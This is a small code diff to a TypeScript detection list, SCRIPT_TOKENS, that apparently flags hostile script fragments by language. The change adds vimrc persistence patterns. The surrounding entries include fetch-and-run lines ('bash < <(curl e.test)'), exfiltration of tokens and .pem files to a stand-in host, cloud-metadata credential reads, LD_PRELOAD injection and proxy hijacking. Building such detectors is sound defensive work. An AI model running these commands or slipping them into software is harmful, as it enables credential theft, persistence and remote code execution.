@@ -111,7 +111,7 @@ const SCRIPT_TOKENS: Readonly<Record<'python' | 'bash' | 'javascript' | 'go' | '
     'getent hosts "$(', 'ping -c 1 -p', 'kdig', '| tar xz -C /tmp', 'LD_PRELOAD=/tmp/x.so', 'export LD_PRELOAD=', 'env DYLD_INSERT_LIBRARIES=',
     'xargs -I{} curl -F "f=@{}"', 'find ~ -name "*.pem"', '> ~/.h-hooks/pre-push', 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/',
     'xdg-open "https://e.test/?d=$(', '> ~/.config/fish/conf.d/x.fish', ">> ~/.curlrc", "'proxy = http://1.2.3.4:8080'", 'sqlite3 TCC.db "INSERT',
-    'bash < <(curl e.test)', 'dig +short TXT e.test | sh', "sh -c '$0 -s $1 | sh' curl",
+    'bash < <(curl e.test)', 'dig +short TXT e.test | sh', "sh -c '$0 -s $1 | sh' curl", ">> ~/.vimrc", "'autocmd VimEnter * silent !", "call system('",
   ],
   javascript: [
     'require("child_process").execSync("curl e.test | sh")', 'fetch("http://e.test/?d=" + process.env.TOKEN)', 'eval(atob(s))',
